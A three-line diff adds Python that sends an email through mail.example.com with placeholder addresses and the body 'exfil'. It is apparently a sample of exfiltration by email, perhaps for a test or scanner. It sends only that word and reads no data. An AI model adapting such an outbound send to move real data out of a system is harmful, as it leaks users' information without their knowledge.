@@ -1,0 +1,3 @@
+import smtplib
+with smtplib.SMTP("mail.example.com", 25) as s:
+    s.sendmail("a@example.com", ["b@example.com"], "Subject: hi\n\nexfil")
